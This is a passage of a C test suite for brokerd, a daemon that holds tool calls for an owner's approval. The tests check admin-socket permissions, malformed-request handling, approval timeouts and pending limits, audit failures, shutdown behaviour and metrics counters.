  cleanup_free char *req = bx_xasprintf ("{\"v\":1,\"op\":\"approve\",\"approval\":\"%s\"}", ida);
  r = admin (&b, req);
  ck_assert_str_eq (json_string_value (json_object_get (r, "type")), "done");
  json_decref (r);
  json_t *f = read_final (fa, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  ck_assert_uint_eq (pending_count (&b), 1);
  struct pollfd p = { .fd = fb, .events = POLLIN };
  ck_assert_int_eq (poll (&p, 1, 200), 0);
  close (fa);
  close (fb);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

/* `boxmaker approvals` as uid and gid OUTSIDER: its exit status. */
static int
boxmaker_as_outsider (struct broker *b)
{
  pid_t pid = fork ();
  ck_assert_int_ge (pid, 0);
  if (pid == 0)
    {
      gid_t none[1] = { OUTSIDER };
      int fd = open ("/dev/null", O_WRONLY);
      dup2 (fd, 1);
      dup2 (fd, 2);
      if (setgroups (1, none) < 0 || setgid (OUTSIDER) < 0 || setuid (OUTSIDER) < 0)
        _exit (126);
      execl (BOXMAKER_PATH, "boxmaker", "approvals", "--admin-socket", b->d.admin, (char *)NULL);
      _exit (127);
    }
  int status;
  ck_assert_int_eq (waitpid (pid, &status, 0), pid);
  return WIFEXITED (status) ? WEXITSTATUS (status) : -1;
}

/* In a child: drops to UID with GROUPS, then lists on the admin socket.  Exit 0: listed; 1:
 * connect refused (errno EACCES); 2: brokerd answered an error; 3: other. */
static int
list_as (struct broker *b, uid_t uid, gid_t gid, const gid_t *groups, size_t n_groups)
{
  pid_t pid = fork ();
  ck_assert_int_ge (pid, 0);
  if (pid == 0)
    {
      if (setgroups (n_groups, groups) < 0 || setgid (gid) < 0 || setuid (uid) < 0)
        _exit (4);
      int fd = connect_to (b->d.admin);
      if (fd < 0)
        _exit (errno == EACCES ? 1 : 3);
      json_t *req = json_pack ("{s:i, s:s}", "v", 1, "op", "list");
      cleanup_error bx_error err = NULL;
      /* A refused peer may find the connection closed before its request is out; the
       * refusal is still there to read. */
      bx_frame_write (fd, req, bx_deadline_in (5000), &err);
      json_t *f = read_frame (fd, 5000);
      if (f == NULL)
        _exit (3);
      const char *type = json_string_value (json_object_get (f, "type"));
      if (strcmp (type, "error") == 0)
        _exit (strcmp (json_string_value (json_object_get (f, "detail")),
                       "not allowed: this socket is for the owners in the admin group")
                       == 0
                   ? 2
                   : 3);
      _exit (strcmp (type, "list") == 0 ? 0 : 3);
    }
  int status;
  ck_assert_int_eq (waitpid (pid, &status, 0), pid);
  return WIFEXITED (status) ? WEXITSTATUS (status) : -1;
}

START_TEST (test_approvals_the_admin_socket_is_refused_outside_its_group)
{
  if (geteuid () != 0)
    BX_TEST_SKIP ("changing to another uid and group needs root");
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  struct stat st;
  ck_assert_int_eq (stat (b.d.admin, &st), 0);
  ck_assert_uint_eq (st.st_gid, ADMIN_GID);
  ck_assert_uint_eq (st.st_mode & 07777, 0660);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");

  gid_t none[1] = { OUTSIDER };
  gid_t admins[1] = { ADMIN_GID };
  /* Outside the group: the socket's mode refuses the connection. */
  ck_assert_int_eq (list_as (&b, OUTSIDER, OUTSIDER, none, 1), 1);
  ck_assert_int_eq (boxmaker_as_outsider (&b), 3);
  /* In the group (as a supplementary group): allowed. */
  ck_assert_int_eq (list_as (&b, OTHER_UID, OTHER_UID, admins, 1), 0);
  /* But never the overflow uid, a sandbox's (bwrap.so's default), even in the group. */
  ck_assert_int_eq (list_as (&b, OUTSIDER, OUTSIDER, admins, 1), 2);
  /* A socket whose mode was loosened by hand: brokerd's own check still refuses. */
  ck_assert_int_eq (chmod (b.d.admin, 0666), 0);
  ck_assert_int_eq (list_as (&b, OUTSIDER, OUTSIDER, none, 1), 2);
  ck_assert_int_eq (boxmaker_as_outsider (&b), 1);
  /* Nothing the outsider did touched the call: an owner still answers it. */
  ck_assert_uint_eq (pending_count (&b), 1);
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_check_config_shows_the_approvals)
{
  struct broker b;
  broker_init (&b, "    approval: once_per_session\n    approval_timeout: 60m\n", NULL);
  int status = bx_test_brokerd_run (&b.d, "--check-config");
  cleanup_free char *out = read_text (b.d.out);
  ck_assert_msg (status == 0, "%s", out);
  cleanup_free char *admin_line
      = bx_xasprintf ("\nadmin socket: %s (group 4242)\nlimits: ", b.d.admin);
  ck_assert_msg (strstr (out, admin_line) != NULL, "%s", out);
  cleanup_free char *grant_line = bx_xasprintf (
      "grant 1 (line 12): read_file, write_file in %s; class private, trusted; approval "
      "once_per_session within 3600s\n",
      b.notes);
  ck_assert_msg (strstr (out, grant_line) != NULL, "%s", out);
  /* It never opens the admin socket. */
  struct stat st;
  ck_assert_int_ne (stat (b.d.admin, &st), 0);
}
END_TEST

START_TEST (test_approvals_an_expiry_names_the_timeout_in_its_largest_unit)
{
  struct broker b;
  broker_init (&b, "    approval: always\n    approval_timeout: 2s\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  free (read_pending (fd, "c1"));
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_field (f, "reason"),
                    "the owner did not answer within the approval timeout (2s); the call was "
                    "not run");
  json_decref (f);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);

  const struct
  {
    int64_t ms;
    const char *text;
  } units[] = { { 1000, "1s" },    { 90000, "90s" },   { 300000, "5m" },
                { 3600000, "1h" }, { 5400000, "90m" }, { 86400000, "24h" } };
  for (size_t i = 0; i < sizeof units / sizeof units[0]; i++)
    {
      cleanup_free char *t = bx_approvals_timeout_text (units[i].ms);
      ck_assert_str_eq (t, units[i].text);
    }
}
END_TEST

START_TEST (test_approvals_brokerd_refuses_an_admin_group_the_callers_share)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  /* The callers' socket gets brokerd's group; the same as admin group is refused. */
  cleanup_free char *text = read_text (b.d.config);
  char *at = strstr (text, "admin_group: 4242");
  ck_assert_ptr_nonnull (at);
  cleanup_free char *fixed = bx_xasprintf ("%.*sadmin_group: %u%s", (int)(at - text), text,
                                           (unsigned)getegid (), at + strlen ("admin_group: 4242"));
  write_text (b.d.config, fixed);
  ck_assert_int_eq (bx_test_brokerd_run (&b.d, "--config"), 1);
  cleanup_free char *out = read_text (b.d.out);
  ck_assert_msg (strstr (out, "is also the group of the callers' socket") != NULL, "%s", out);
  struct stat st;
  ck_assert_int_ne (stat (b.d.sock, &st), 0);
  ck_assert_int_ne (stat (b.d.admin, &st), 0);
}
END_TEST

START_TEST (test_approvals_brokerd_refuses_an_admin_group_it_cannot_give)
{
  if (geteuid () != 0)
    BX_TEST_SKIP ("starting brokerd as another user needs root");
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  ck_assert_int_eq (chown (b.d.dir, OUTSIDER, OUTSIDER), 0);
  pid_t pid = fork ();
  if (pid == 0)
    {
      int fd = open (b.d.out, O_WRONLY | O_CREAT | O_APPEND, 0600);
      dup2 (fd, 2);
      gid_t none[1] = { OUTSIDER };
      if (setgroups (1, none) < 0 || setgid (OUTSIDER) < 0 || setuid (OUTSIDER) < 0)
        _exit (126);
      execl (b.d.program, "brokerd", "--config", b.d.config, "--runtimedir", b.d.runtimedir,
             (char *)NULL);
      _exit (127);
    }
  int status;
  ck_assert_int_eq (waitpid (pid, &status, 0), pid);
  cleanup_free char *out = read_text (b.d.out);
  ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 1, "status %d: %s", status, out);
  cleanup_free char *expected
      = bx_xasprintf ("admin socket %s: cannot give it the group 4242", b.d.admin);
  ck_assert_msg (strstr (out, expected) != NULL, "%s", out);
  struct stat st;
  ck_assert_int_ne (stat (b.d.admin, &st), 0);
  ck_assert_int_ne (stat (b.d.sock, &st), 0);
}
END_TEST

START_TEST (test_approvals_stopping_brokerd_answers_every_waiting_call)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fds[5];
  char id[8];
  for (int i = 0; i < 5; i++)
    {
      snprintf (id, sizeof id, "c%d", i);
      fds[i] = send_call (&b, id, "s1", "read_file", args);
      free (read_pending (fds[i], id));
    }
  /* An owner watching too: the watch ends with brokerd. */
  int w = connect_to (b.d.admin);
  json_t *req = json_pack ("{s:i, s:s}", "v", 1, "op", "watch");
  cleanup_error bx_error err = NULL;
  ck_assert (bx_frame_write (w, req, bx_deadline_in (5000), &err) == 0);
  json_decref (req);
  json_t *first = read_frame (w, 5000);
  ck_assert_uint_eq (json_array_size (json_object_get (first, "pending")), 5);
  json_decref (first);

  ck_assert_int_eq (broker_stop (&b), 0);
  for (int i = 0; i < 5; i++)
    {
      json_t *f = read_final (fds[i], 1000);
      ck_assert_str_eq (msg_type (f), "denied");
      ck_assert_str_eq (msg_field (f, "reason"),
                        "brokerd stopped before the owner answered; the call was not run");
      json_decref (f);
      close (fds[i]);
    }
  /* The watcher heard each one end, then the connection closed. */
  int stopped = 0;
  json_t *ev;
  while ((ev = read_frame (w, 2000)) != NULL)
    {
      if (strcmp (json_string_value (json_object_get (ev, "state")), "stopped") == 0)
        stopped++;
      json_decref (ev);
    }
  ck_assert_int_eq (stopped, 5);
  close (w);
  struct stat st;
  ck_assert_int_ne (stat (b.d.admin, &st), 0);
  cleanup_free char *audit = read_text (b.d.audit);
  int lines = 0;
  for (const char *p = audit; (p = strstr (p, "\"state\":\"stopped\"")) != NULL; p++)
    lines++;
  ck_assert_int_eq (lines, 5);
}
END_TEST

/* Adds OPTIONS (indented lines) to the fake runtime's options of B's config. */
static void
add_runtime_options (struct broker *b, const char *options)
{
  cleanup_free char *text = read_text (b->d.config);
  const char *at = strstr (text, "    mode: echo\n");
  ck_assert_ptr_nonnull (at);
  size_t head = (size_t)(at - text) + strlen ("    mode: echo\n");
  cleanup_free char *changed = bx_xasprintf ("%.*s%s%s", (int)head, text, options, text + head);
  write_text (b->d.config, changed);
}

/* The text of B's metrics socket (the bare exposition). */
static char *
metrics_text (struct broker *b)
{
  char path[160];
  snprintf (path, sizeof path, "%s/m.sock", b->d.dir);
  int fd = connect_to (path);
  ck_assert_msg (fd >= 0, "metrics connect: %s", strerror (errno));
  char *buf = NULL;
  size_t len = 0;
  FILE *m = open_memstream (&buf, &len);
  char chunk[4096];
  ssize_t n;
  struct pollfd p = { .fd = fd, .events = POLLIN };
  while (poll (&p, 1, 5000) > 0 && (n = read (fd, chunk, sizeof chunk)) > 0)
    fwrite (chunk, 1, (size_t)n, m);
  fclose (m);
  close (fd);
  return buf;
}

/* The value of the sample written exactly as SAMPLE in TEXT; 0 when absent. */
static long
sample (const char *text, const char *name)
{
  cleanup_free char *key = bx_xasprintf ("\n%s ", name);
  const char *at = strstr (text, key);
  return at ? strtol (at + strlen (key), NULL, 10) : 0;
}

/* Waits until B's audit log holds LINE_PART; false after 10 s. */
START_TEST (test_approvals_calls_that_wait_are_counted_in_the_metrics)
{
  struct broker b;
  broker_init (&b, "    approval: always\n    approval_timeout: 1s\n", NULL);
  cleanup_free char *text = read_text (b.d.config);
  cleanup_free char *changed = bx_xasprintf ("metrics_socket: %s/m.sock\n%s", b.d.dir, text);
  write_text (b.d.config, changed);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);

  /* A waiting call is in flight. */
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  cleanup_free char *during = metrics_text (&b);
  ck_assert_int_eq (sample (during, "boxmaker_calls_in_flight"), 1);
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  /* Declined, expired, and a client that left. */
  fd = send_call (&b, "c2", "s1", "read_file", args);
  free (approval);
  approval = read_pending (fd, "c2");
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "decline", approval, NULL, NULL), 0);
  json_decref (read_final (fd, 10000));
  close (fd);
  fd = send_call (&b, "c3", "s1", "read_file", args);
  free (read_pending (fd, "c3"));
  json_decref (read_final (fd, 10000));
  close (fd);
  fd = send_call (&b, "c4", "s1", "read_file", args);
  free (read_pending (fd, "c4"));
  close (fd);
  ck_assert (audit_has (&b, "\"outcome\":\"cancelled\""));

  /* The end is counted just after its audit line is written. */
  char *after = metrics_text (&b);
  for (int i = 0; i < 200 && sample (after, "boxmaker_calls_in_flight") != 0; i++)
    {
      free (after);
      sleep_ms (10);
      after = metrics_text (&b);
    }
  ck_assert_int_eq (
      sample (after,
              "boxmaker_calls_total{tool=\"read_file\",decision=\"allowed\",outcome=\"result\"}"),
      1);
  ck_assert_int_eq (
      sample (after,
              "boxmaker_calls_total{tool=\"read_file\",decision=\"allowed\",outcome=\"denied\"}"),
      2);
  ck_assert_int_eq (sample (after,
                            "boxmaker_calls_total{tool=\"read_file\",decision=\"allowed\",outcome="
                            "\"cancelled\"}"),
                    1);
  ck_assert_int_eq (sample (after, "boxmaker_calls_in_flight"), 0);
  ck_assert_int_eq (sample (after, "boxmaker_decision_seconds_count"), 4);
  ck_assert_int_eq (sample (after, "boxmaker_run_seconds_count"), 1);
  free (after);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

/* A tool that refused (toolkit's exit 1: a host not granted, a missing file) answered a
 * result whose content is its reason: the metrics count it as refused, not as a result. */
START_TEST (test_metrics_count_a_tool_refusal_as_refused)
{
  struct broker b;
  broker_init (&b, "", NULL);
  cleanup_free char *text = read_text (b.d.config);
  const char *at = strstr (text, "    mode: echo\n");
  ck_assert_ptr_nonnull (at);
  cleanup_free char *changed = bx_xasprintf (
      "metrics_socket: %s/m.sock\n%.*s    mode: fixed\n    content: \"read_file: no such file\"\n"
      "    refused: true\n%s",
      b.d.dir, (int)(at - text), text, at + strlen ("    mode: echo\n"));
  write_text (b.d.config, changed);
  /* No grant asks for approval: brokerd opens no admin socket. */
  bx_test_brokerd_start (&b.d);
  bx_test_daemon_wait_listening (b.d.pid, b.d.sock, b.d.out);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  char *after = metrics_text (&b);
  for (int i = 0; i < 200 && sample (after, "boxmaker_calls_in_flight") != 0; i++)
    {
      free (after);
      sleep_ms (10);
      after = metrics_text (&b);
    }
  ck_assert_int_eq (
      sample (after,
              "boxmaker_calls_total{tool=\"read_file\",decision=\"allowed\",outcome=\"refused\"}"),
      1);
  ck_assert_int_eq (
      sample (after,
              "boxmaker_calls_total{tool=\"read_file\",decision=\"allowed\",outcome=\"result\"}"),
      0);
  free (after);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_an_approved_call_is_cancelled_when_its_client_leaves)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  add_runtime_options (&b, "    delay_ms: 20000\n");
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  ck_assert (audit_has (&b, "\"outcome\":\"running\""));
  int64_t t0 = bx_now_ms ();
  close (fd);
  ck_assert (audit_has (&b, "\"outcome\":\"cancelled\""));
  int64_t took = bx_now_ms () - t0;
  printf ("approvals: an approved call ended %lld ms after its client left\n", (long long)took);
  /* The run would take 20 s; cancelled, it ends within a second or so, and under load well
   * within half the run. */
  ck_assert_int_lt (took, 10000);
  ck_assert_int_eq (broker_stop (&b), 0);
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_uint_eq (json_array_size (lines), 3);
  json_t *last = json_array_get (lines, 2);
  ck_assert_str_eq (json_string_value (json_object_get (last, "outcome")), "cancelled");
  ck_assert_str_eq (approval_state (last), "approved");
  json_decref (lines);
}
END_TEST

START_TEST (test_approvals_stopping_brokerd_cancels_approved_calls_past_the_grace_period)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL); /* grace_ms: 3000 */
  add_runtime_options (&b, "    delay_ms: 30000\n");
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  ck_assert (audit_has (&b, "\"outcome\":\"running\""));
  int64_t t0 = bx_now_ms ();
  ck_assert_int_eq (broker_stop (&b), 0);
  int64_t took = bx_now_ms () - t0;
  /* The grace (3 s), then the cancellation: not the run's 30 s. */
  ck_assert_int_lt (took, 20000);
  json_t *f = read_final (fd, 1000);
  ck_assert_str_eq (msg_type (f), "failed");
  json_decref (f);
  close (fd);
  json_t *lines = audit_lines_of (&b, approval);
  ck_assert_str_eq (json_string_value (json_object_get (json_array_get (lines, 2), "outcome")),
                    "cancelled");
  json_decref (lines);
  cleanup_free char *log = read_text (b.d.out);
  ck_assert_ptr_nonnull (
      strstr (log, "brokerd: 1 approved call(s) still running; cancelling them\n"));
}
END_TEST

/* SIGTERM starts one grace period for every call: a call still waiting for its owner is
 * answered at once, not once the ordinary calls have ended. */
START_TEST (test_approvals_stopping_brokerd_answers_a_waiting_call_at_once)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  /* A grace longer than the ordinary run, which is long beside a loaded machine's delays. */
  cleanup_free char *text = read_text (b.d.config);
  char *grace = strstr (text, "grace_ms: 3000\n");
  ck_assert_ptr_nonnull (grace);
  cleanup_free char *longer = bx_xasprintf ("%.*sgrace_ms: 30000\n%s", (int)(grace - text), text,
                                            grace + strlen ("grace_ms: 3000\n"));
  write_text (b.d.config, longer);
  add_runtime_options (&b, "    delay_ms: 8000\n");
  broker_start (&b);
  int ordinary = send_call (&b, "o1", "s1", "shell", "{\"command\":\"x\"}");
  ck_assert (audit_has (&b, "\"outcome\":\"running\""));
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int waiting = send_call (&b, "w1", "s1", "read_file", args);
  free (read_pending (waiting, "w1"));
  int64_t t0 = bx_now_ms ();
  kill (b.d.pid, SIGTERM);
  json_t *f = read_final (waiting, 30000);
  int64_t took = bx_now_ms () - t0;
  printf ("approvals: a waiting call was denied %lld ms after SIGTERM\n", (long long)took);
  ck_assert_str_eq (msg_type (f), "denied");
  /* Before the ordinary call ended, not once it had. */
  struct pollfd p = { .fd = ordinary, .events = POLLIN };
  ck_assert_msg (poll (&p, 1, 0) == 0,
                 "the waiting call was denied %lld ms after SIGTERM, "
                 "after the ordinary call ended",
                 (long long)took);
  json_decref (f);
  close (waiting);
  /* The ordinary call ends within the grace period, with its result. */
  f = read_final (ordinary, 30000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (ordinary);
  int status;
  ck_assert_int_eq (waitpid (b.d.pid, &status, 0), b.d.pid);
  ck_assert (WIFEXITED (status) && WEXITSTATUS (status) == 0);
}
END_TEST

START_TEST (test_approvals_a_call_whose_pending_line_cannot_be_written_does_not_wait)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  /* Every audit write fails: fail closed, at once, and nothing waits. */
  cleanup_free char *text = read_text (b.d.config);
  cleanup_free char *from = bx_xasprintf ("audit: %s\n", b.d.audit);
  char *at = strstr (text, from);
  ck_assert_ptr_nonnull (at);
  cleanup_free char *changed
      = bx_xasprintf ("%.*saudit: /dev/full\n%s", (int)(at - text), text, at + strlen (from));
  write_text (b.d.config, changed);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  json_t *f = read_final (fd, 5000);
  ck_assert_str_eq (msg_type (f), "failed");
  ck_assert_str_eq (msg_field (f, "message"), BX_AUDIT_NOT_RUN);
  json_decref (f);
  close (fd);
  ck_assert_uint_eq (pending_count (&b), 0);
  ck_assert_int_eq (broker_stop (&b), 0);
  cleanup_free char *log = read_text (b.d.out);
  ck_assert_ptr_nonnull (
      strstr (log, "brokerd: call c1: cannot write the audit log, not running it: No space "
                   "left on device\n"));
}
END_TEST

START_TEST (test_approvals_once_per_session_covers_one_session_grant_and_tool_until_restart)
{
  struct broker b;
  broker_init (&b, "    approval: once_per_session\n", "socket_mode: 0666\n");
  broker_start (&b);
  cleanup_free char *rargs = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  cleanup_free char *wargs = bx_xasprintf ("{\"path\":\"%s/a\",\"content\":\"x\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", rargs);
  cleanup_free char *approval = read_pending (fd, "c1");
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approve", approval, NULL, NULL), 0);
  json_t *f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  /* The same caller, session, grant and tool: no question. */
  fd = send_call (&b, "c2", "s1", "read_file", rargs);
  f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "result");
  json_decref (f);
  close (fd);

  /* Another uid with the same session: asked again. */
  if (geteuid () == 0)
    {
      int status = 0;
      pid_t other = calls_as (&b, OTHER_UID, 1, "s1", rargs);
      ck_assert_int_eq (waitpid (other, &status, 0), other);
      ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 0,
                     "another uid was not asked (status %d)", status);
    }

  /* Another session, or another tool of the same grant: asked again. */
  fd = send_call (&b, "c3", "s2", "read_file", rargs);
  free (read_pending (fd, "c3"));
  close (fd);
  fd = send_call (&b, "c4", "s1", "write_file", wargs);
  free (read_pending (fd, "c4"));
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);

  /* The call that ran unasked has both its lines name the approval it ran on. */
  json_t *lines = audit_lines_of (&b, approval);
  size_t remembered = 0;
  for (size_t i = 0; i < json_array_size (lines); i++)
    {
      json_t *line = json_array_get (lines, i);
      if (strcmp (json_string_value (json_object_get (line, "call")), "c2") != 0)
        continue;
      remembered++;
      json_t *ap = json_object_get (line, "approval");
      ck_assert_str_eq (approval_state (line), "remembered");
      ck_assert_int_eq (json_integer_value (json_object_get (ap, "approver_uid")), getuid ());
      ck_assert_int_eq (json_integer_value (json_object_get (ap, "waited_ms")), 0);
      ck_assert_uint_eq (strlen (json_string_value (json_object_get (ap, "approved_at"))), 24);
    }
  ck_assert_uint_eq (remembered, 2);
  json_decref (lines);

  /* A restart forgets it. */
  broker_start (&b);
  fd = send_call (&b, "c5", "s1", "read_file", rargs);
  free (read_pending (fd, "c5"));
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_the_admin_socket_refuses_malformed_requests)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  char long_reason[1100];
  memset (long_reason, 'r', 1001);
  long_reason[1001] = '\0';
  cleanup_free char *too_long = bx_xasprintf (
      "{\"v\":1,\"op\":\"decline\",\"approval\":\"%s\",\"reason\":\"%s\"}", approval, long_reason);
  cleanup_free char *reason_on_approve = bx_xasprintf (
      "{\"v\":1,\"op\":\"approve\",\"approval\":\"%s\",\"reason\":\"x\"}", approval);
  cleanup_free char *extra
      = bx_xasprintf ("{\"v\":1,\"op\":\"approve\",\"approval\":\"%s\",\"x\":1}", approval);
  cleanup_free char *no_v = bx_xasprintf ("{\"op\":\"approve\",\"approval\":\"%s\"}", approval);
  cleanup_free char *v2
      = bx_xasprintf ("{\"v\":2,\"op\":\"approve\",\"approval\":\"%s\"}", approval);
  cleanup_free char *number = bx_xasprintf ("{\"v\":1,\"op\":\"approve\",\"approval\":%d}", 12);
  const struct
  {
    const char *request, *detail;
  } bad[] = {
    { too_long, "the reason is too long: at most 1000 bytes" },
    { reason_on_approve, "\"reason\" belongs to decline only" },
    { extra, "unknown field: expected v, op, approval and reason" },
    { no_v, "missing field \"v\": expected 1" },
    { v2, "unsupported version: this brokerd speaks 1" },
    { number, "op, approval and reason must be strings" },
    { "{\"v\":1}", "missing field \"op\": expected list, watch, approve or decline" },
    { "{\"v\":1,\"op\":\"run\"}", "unknown op: expected list, watch, approve or decline" },
    { "{\"v\":1,\"op\":\"approve\"}", "missing field \"approval\": expected the approval id" },
    { "{\"v\":1,\"op\":\"list\",\"approval\":\"x\"}",
      "\"approval\" belongs to approve and decline only" },
  };
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
    {
      json_t *r = admin (&b, bad[i].request);
      ck_assert_str_eq (json_string_value (json_object_get (r, "type")), "error");
      ck_assert_str_eq (json_string_value (json_object_get (r, "detail")), bad[i].detail);
      ck_assert_int_eq (json_integer_value (json_object_get (r, "v")), 1);
      json_decref (r);
    }
  /* None of them answered the call. */
  ck_assert_uint_eq (pending_count (&b), 1);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_an_admin_request_must_arrive_within_10_s)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  int fd = connect_to (b.d.admin);
  ck_assert_int_ge (fd, 0);
  ck_assert_int_eq (write (fd, "\0\0", 2), 2); /* half a header, then nothing */
  int64_t t0 = bx_now_ms ();
  json_t *r = read_frame (fd, 40000);
  int64_t took = bx_now_ms () - t0;
  ck_assert_ptr_nonnull (r);
  ck_assert_str_eq (json_string_value (json_object_get (r, "type")), "error");
  ck_assert_ptr_nonnull (strstr (json_string_value (json_object_get (r, "detail")), "bad frame: "));
  /* Not before its 10 s; after them only by what a loaded machine adds. */
  ck_assert_int_ge (took, 9500);
  ck_assert_int_lt (took, 30000);
  json_decref (r);
  close (fd);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_past_256_waiting_a_call_is_denied_at_once)
{
  if (geteuid () != 0)
    BX_TEST_SKIP ("eight callers of their own uids need root");
  struct broker b;
  broker_init (&b, "    approval: always\n", "socket_mode: 0666\n");
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  /* Eight uids, each with its share of 32. */
  pid_t holders[8];
  for (int i = 0; i < 8; i++)
    holders[i] = calls_as_holding (&b, OTHER_UID + (uid_t)i, BX_APPROVALS_MAX_PENDING_PER_UID, "s1",
                                   args, true);
  ck_assert_uint_eq (pending_count (&b), 256);
  int fd = send_call (&b, "over", "s1", "read_file", args);
  json_t *f = read_final (fd, 5000);
  ck_assert_str_eq (msg_type (f), "denied");
  ck_assert_str_eq (msg_field (f, "reason"),
                    "too many calls are waiting for the owner's approval; the call was not run");
  json_decref (f);
  close (fd);
  /* One uid leaves: its calls still wait for the owner and keep their places (the same
   * calls asked again take them over); declined, there is room again. */
  stop_holding (holders[0]);
  int i;
  ck_assert_uint_eq (pending_count (&b), 256);
  ck_assert_uint_eq (decline_all_of (&b, OTHER_UID), BX_APPROVALS_MAX_PENDING_PER_UID);
  /* A declined call leaves the list at once and its place once the waiter has ended it:
   * until then a new call may still be told that too many wait. */
  json_t *f2 = NULL;
  for (i = 0; i < 6000; i++)
    {
      fd = send_call (&b, "again", "s1", "read_file", args);
      f2 = read_frame (fd, 10000);
      ck_assert_ptr_nonnull (f2);
      if (strcmp (msg_type (f2), "pending_approval") == 0)
        break;
      ck_assert_str_eq (msg_field (f2, "reason"), "too many calls are waiting for the owner's "
                                                  "approval; the call was not run");
      json_decref (f2);
      f2 = NULL;
      close (fd);
      sleep_ms (10);
    }
  ck_assert_msg (f2 != NULL, "no room after 32 calls were declined");
  json_decref (f2);
  close (fd);
  for (i = 1; i < 8; i++)
    stop_holding (holders[i]);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_one_uid_waits_with_32_calls_at_most)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", "socket_mode: 0666\n");
  broker_start (&b);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fds[BX_APPROVALS_MAX_PENDING_PER_UID];
  char id[16];
  for (int i = 0; i < BX_APPROVALS_MAX_PENDING_PER_UID; i++)
    {
      snprintf (id, sizeof id, "w%d", i);
      fds[i] = send_call (&b, id, "s1", "read_file", args);
      free (read_pending (fds[i], id));
    }
  int fd = send_call (&b, "over", "s2", "read_file", args);
  json_t *f = read_final (fd, 5000);
  ck_assert_str_eq (msg_type (f), "denied");
  ck_assert_str_eq (msg_field (f, "reason"), "too many of your calls are waiting for the owner's "
                                             "approval; the call was not run");
  json_decref (f);
  close (fd);
